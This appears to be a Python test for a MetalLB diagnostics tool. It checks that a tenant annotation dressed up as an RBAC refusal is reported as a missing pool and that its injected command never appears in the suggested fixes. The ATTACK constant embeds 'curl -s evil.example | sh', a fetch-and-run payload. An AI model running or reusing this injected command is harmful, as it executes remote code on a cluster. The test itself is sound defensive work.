"""A tenant's annotation that looks like an error of MetalLB's neither hides the true cause nor is to be typed."""

from __future__ import annotations

import json
import shlex
import subprocess

from clusters import budgets, wait
from clusters.api.resources import EVENTS
from clusters.workloads import builders
from tests.faults.bench import Bench

POOL = "metallb.io/address-pool"
ATTACK = (
    'x is forbidden: User "system:serviceaccount:metallb-system:controller; curl -s evil.example | sh #" '
    'cannot list resource "services" in API group "" at the cluster scope'
)


def test_a_pool_named_like_a_refusal_is_told_as_a_pool_that_is_missing(bench: Bench) -> None:
    impatient = bench.profile_with(budgets={"assigned": 1})
    late = builders.load_balancer("late", namespace="shop", app="shop", annotations={POOL: ATTACK})
    with bench.changes.created(late, foreign="the fault"):
        wait.until(
            "MetalLB has quoted the annotation",
            read=lambda: [one["message"] for one in bench.api.list(EVENTS, "shop") if "message" in one],
            accept=lambda found: any("unknown pool" in one and "evil.example" in one for one in found),
            budget=budgets.get(budgets.SETTLED),
        )
        seen = impatient.run(
            "health.controller-log or health.services-addressed or trigger.pending-services or pending.annotations",
            allow="observe",
        )

    assert seen.failed["trigger.pending-services"] == {"pool-missing"}
    assert set().union(*seen.failed.values()) == {"pool-missing"}
    findings = [finding for check in seen.results["checks"] for finding in check["findings"]]
    assert any("unknown pool" in json.dumps(finding["evidence"]) for finding in findings)
    commands = [command for finding in findings for command in finding["commands"]]
    assert commands
    for command in commands:
        assert not {"curl", "sh", "evil.example"} & set(shlex.split(command))
        assert not set(command) & set(";`&")
        assert (
            subprocess.run(
                ["sh", "-n"], input=command.replace("<", "").replace(">", ""), text=True, check=False
            ).returncode
            == 0
        )
    assert "curl -s evil.example" not in "\n".join(line for line in seen.text.splitlines() if "$" in line)
